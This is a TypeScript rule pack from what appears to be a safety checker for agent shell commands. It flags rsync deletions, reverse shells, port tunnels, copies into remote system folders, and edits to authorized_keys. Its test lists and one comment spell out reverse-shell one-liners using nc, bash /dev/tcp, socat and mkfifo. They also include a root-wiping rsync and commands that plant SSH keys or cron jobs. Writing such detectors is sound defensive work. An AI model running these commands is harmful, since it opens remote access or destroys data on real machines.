// A table: exempt from the file length limit.
// Other machines: what is mirrored to them, and doors opened from them to this one.

import { type Call, findOption } from '../call.ts'
import { classifyPath } from '../path-class.ts'
import type { Facts, RulePack, TestResult } from '../rule.ts'

export const remote: RulePack = {
  name: 'remote',
  about: 'Copying with deletion, and access from other machines.',
  rules: [
    {
      id: 'remote/rsync-delete',
      effect: 'destructive',
      tier: 3,
      reason: 'Deletes files on the target that the source does not have.',
      alternative: 'rsync --dry-run --delete lists the files.',
      owasp: 'ASI02',
      when: { program: 'rsync', unless: ['-n|--dry-run', '--list-only'], test: rsyncDeletes },
      match: [
        'rsync -a --delete src/ backup/',
        'rsync --del a/ host:b/',
        'rsync -a --remove-source-files a b',
        'rsync -a --delete empty/ /',
      ],
      pass: ['rsync -a a/ b/', 'rsync -an --delete a/ b/', 'rsync --delete --dry-run a b'],
    },
    {
      id: 'remote/reverse-shell',
      effect: 'destructive',
      tier: 5,
      reason: 'Opens a reverse shell: gives another machine a shell on this machine.',
      owasp: 'ASI05',
      when: {
        program: 'nc ncat netcat nc.traditional nc.openbsd socat cryptcat sh bash zsh dash ksh busybox telnet openssl',
        test: opensShell,
      },
      match: [
        'nc -e /bin/sh 10.0.0.1 4444',
        'ncat --listen --exec /bin/bash 4444',
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        'socat TCP:10.0.0.1:4444 EXEC:/bin/sh',
        'ncat -lc "sh -i" 99',
      ],
      pass: [
        'nc -zv host 443',
        'nc -l 8080',
        'bash script.sh',
        'socat - TCP:localhost:80',
        'socat TCP-LISTEN:80,fork TCP:web:80',
      ],
    },
    {
      id: 'remote/port-open',
      effect: 'deploy-affecting',
      tier: 3,
      reason: 'Makes a port of this machine reachable from other machines.',
      owasp: 'ASI03',
      when: {
        program: 'ngrok cloudflared localtunnel lt ssh bore',
        test: (call) => (call.name === 'ssh' ? findOption(call, ['-R'])?.word : call.operands[0]),
      },
      match: ['ngrok http 3000', 'ssh -R 80:localhost:3000 host', 'cloudflared tunnel run x'],
      pass: ['ssh host uptime', 'ngrok --help'],
    },
    {
      id: 'remote/write-system',
      effect: 'destructive',
      tier: 4,
      reason: 'Copies files to a system folder of another machine.',
      alternative: "Copy them to the user's folder there, and ask the user to install them.",
      owasp: 'ASI03',
      when: {
        program: 'scp rsync sftp',
        test: ({ operands }) => {
          const target = operands.at(-1)
          const path = target?.text.slice(target.text.indexOf(':') + 1) ?? ''
          const isThere = target?.text.includes(':') === true && operands.length > 1
          return isThere &&
            (REMOTE_SYSTEM.some((folder) => path.startsWith(folder)) || path.includes('authorized_keys'))
            ? target
            : undefined
        },
      },
      match: ['scp job host:/etc/cron.d/', 'rsync -a bin/ root@host:/usr/bin/', 'scp k.pub host:.ssh/authorized_keys'],
      pass: ['scp a.txt host:', 'scp host:/etc/hosts .', 'rsync -a a/ host:/srv/app/'],
    },
    {
      id: 'remote/known-keys',
      effect: 'file-modification',
      tier: 4,
      reason: 'Adds a key that can log in to this machine.',
      owasp: 'ASI03',
      when: {
        access: ['write'],
        test: ({ file }) =>
          file.text.endsWith('/authorized_keys') || file.text.endsWith('/authorized_keys2') ? file : undefined,
      },
      match: [
        'echo key >> ~/.ssh/authorized_keys',
        'tee -a ~/.ssh/authorized_keys',
        { tool: 'Write', args: { file_path: '/root/.ssh/authorized_keys', content: 'k' } },
      ],
      pass: ['cat ~/.ssh/authorized_keys', 'echo x > keys.txt'],
    },
  ],
}

function rsyncDeletes(call: Call, facts: Facts): TestResult {
  const option = call.options.find(({ name }) => name.startsWith('--del') || name === '--remove-source-files')
  if (option === undefined) return undefined
  const target = call.operands.at(-1)
  const kind =
    target === undefined || target.text.includes(':')
      ? 'outside'
      : classifyPath(target, call.command.cwd, facts).pathClass
  if (kind === 'root' || kind === 'home' || kind === 'above' || kind === 'system')
    return { at: option.word.span, tier: 5 }
  return kind === 'temp' || kind === 'build' ? undefined : { at: option.word.span, isUncertain: true }
}

const REMOTE_SYSTEM = [
  '/etc/',
  '/usr/',
  '/bin/',
  '/sbin/',
  '/boot/',
  '/lib',
  '/root/',
  '/var/spool/',
  '/dev/',
  '/proc/',
  '/sys/',
]

const SHELLS = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'cmd', 'powershell', 'pwsh', 'python', 'perl']

function runsShell(value: string): boolean {
  return value
    .split(/[\s,:='"]+/)
    .some((word) => SHELLS.includes(word.slice(word.lastIndexOf('/') + 1).replace('.exe', '')))
}

function opensShell(call: Call): TestResult {
  const isSocket = call.command.redirects.find(
    ({ target }) => target.text.startsWith('/dev/tcp/') || target.text.startsWith('/dev/udp/'),
  )
  if (['sh', 'bash', 'zsh', 'dash', 'ksh'].includes(call.name)) return isSocket?.target
  if (call.name === 'socat')
    return call.operands.find(({ text }) => /^(?:exec|system|shell):/i.test(text) && runsShell(text))
  if (call.name === 'telnet' || call.name === 'openssl') return undefined
  const run = call.options.find(
    ({ name, value }) => ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'].includes(name) && value !== undefined,
  )
  if (run !== undefined) return run.word
  // mkfifo f; cat f | sh -i 2>&1 | nc host 99 > f
  const isFed = call.command.input?.from.some(({ name }) => name !== undefined && SHELLS.includes(name)) === true
  return isFed && call.operands.length > 0 ? { at: call.command.span } : undefined
}
